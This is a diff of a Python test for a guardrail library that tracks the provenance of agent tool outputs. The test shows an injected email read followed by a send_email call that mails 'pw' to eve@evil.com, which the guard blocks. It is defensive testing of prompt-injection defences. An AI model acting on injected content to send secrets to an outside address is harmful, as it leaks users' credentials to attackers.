@@ -8,7 +8,13 @@ from railguard.engine import Engine
 from railguard.errors import ApprovalRequired, GuardBlocked
 from railguard.model import Action, Context, Verdict
 from railguard.state._provenance_entities import entity_key, extract_entities, masked
-from railguard.state.provenance import INJECTED_RULE, UNTRUSTED_RULE, Provenance, install_provenance
+from railguard.state.provenance import (
+    CONTEXT_RULE,
+    INJECTED_RULE,
+    UNTRUSTED_RULE,
+    Provenance,
+    install_provenance,
+)
 from railguard.store import open_store
 
 RUN = Context(tenant="acme", run="r1")
@@ -109,7 +115,7 @@ def test_injected_output_escalates_to_block_and_verdicts_are_configurable() -> N
     prov.record_output(Action("read_email", {}, context=RUN), INJECTED)
     decision = engine.check(Action("send_email", {"to": "eve@evil.com", "body": "pw"}, context=RUN))
     assert decision.verdict is Verdict.BLOCK
-    assert decision.rules == (INJECTED_RULE,)
+    assert decision.rules == (CONTEXT_RULE, INJECTED_RULE)  # run-level integrity asks as well
     assert "prompt-injection signals" in decision.reason
 
     engine2 = Engine(text=POLICY)
